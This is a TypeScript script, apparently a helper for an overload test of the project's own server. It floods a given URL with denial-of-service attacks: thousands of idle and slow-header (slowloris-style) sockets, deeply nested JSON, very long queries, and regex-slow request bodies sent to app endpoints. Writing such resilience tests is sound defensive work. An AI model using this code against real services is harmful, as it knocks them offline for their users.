// Attacks a server from a separate process until killed, so that any delay for other clients is caused by the server.
// Started by overload.proof.ts with the URL, a user's token and the name of an attack.
import { connect, type Socket } from 'node:net';

const [url = '', token = '', name = ''] = process.argv.slice(2);

const idleSockets = 10_000;
const slowSockets = 2_000;
/** Number of concurrent requests for attacks that send complete requests. */
const atOnce = 16;

const deepJson = '['.repeat(10_000) + ']'.repeat(10_000);
const longQuery = 'x'.repeat(1_000_000);
/** Bodies near the maximum length, with content that is slow for regular expressions. */
const longTexts = ['<', '<a ', 'javascript ', 'a'].map((start) => start + ' '.repeat(80_000));

const attacks: Readonly<Record<string, () => unknown>> = {
  'idle sockets': () => openSockets(idleSockets, () => undefined),

  'slow headers': () =>
    openSockets(slowSockets, (socket) => {
      socket.write('GET /healthz HTTP/1.1\r\nhost: a\r\nx: ');
      const trickle = setInterval(() => socket.write('x'), 1_000);
      socket.once('close', () => clearInterval(trickle));
    }),

  'deep JSON': () => sendAgain(() => post('preview', `{"options":${deepJson}}`)),

  'long queries': () => sendAgain(() => fetch(`${url}/healthz?q=${longQuery}`)),

  'long texts': () =>
    sendAgain(async (round) => {
      const text = longTexts[round % longTexts.length];
      await post('plan-generate', JSON.stringify({ influencer_id: '', prompt: text }));
      await post('create-post', JSON.stringify({ caption: text, scheduledFor: text, mediaUrls: [text] }));
      await post('connect-sandbox-instagram', JSON.stringify({ profileId: text, username: text }));
      return fetch(`${url}/healthz`, { headers: { authorization: `bearer ${' '.repeat(8_000)}` } });
    }),
};

attacks[name]?.();

function post(call: string, body: string): Promise<Response> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  return fetch(`${url}/functions/v1/${call}`, { method: 'POST', headers, body });
}

function sendAgain(send: (round: number) => Promise<Response>): void {
  const worker = async (_: unknown, start: number) => {
    for (let round = start; ; round++)
      await send(round).then(
        (answer) => answer.arrayBuffer(),
        () => undefined, // a rejected connection is a response too
      );
  };
  void Promise.all(Array.from({ length: atOnce }, worker));
}

/** Opens sockets one after the other, and reopens each that the server closes. */
async function openSockets(count: number, use: (socket: Socket) => void): Promise<void> {
  const { port, hostname } = new URL(url);
  for (let opened = 0; opened < count; opened++) await open();

  function open(): Promise<void> {
    const { promise, resolve } = Promise.withResolvers<void>();
    const socket = connect({ port: Number(port), host: hostname }, () => {
      use(socket);
      resolve();
    });
    socket.on('error', () => resolve()).on('close', () => void open());
    socket.resume();
    return promise;
  }
}
